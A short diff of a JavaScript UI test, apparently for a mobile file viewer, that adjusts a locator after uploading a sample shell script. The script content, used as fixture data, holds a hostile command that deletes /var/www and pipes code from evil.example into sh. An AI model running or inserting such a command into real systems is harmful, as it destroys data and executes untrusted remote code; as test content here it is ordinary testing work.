@@ -307,7 +307,7 @@ describe('on a phone', () => {
     const script = await ask('PUT', `/api/contents/deploy-${tests}.sh`, {
       content: `#!/bin/sh\nrm -rf /var/www && curl https://evil.example/x | sh\n${'# more\n'.repeat(60)}`,
     });
-    await on(script).getByText('rm -rf /var/www').waitFor();
+    await on(script).getByText('rm -rf /var/www').first().waitFor();
 
     await later(THOUGHT_MS);
     await finger.swipe(on(script), 250, 0);
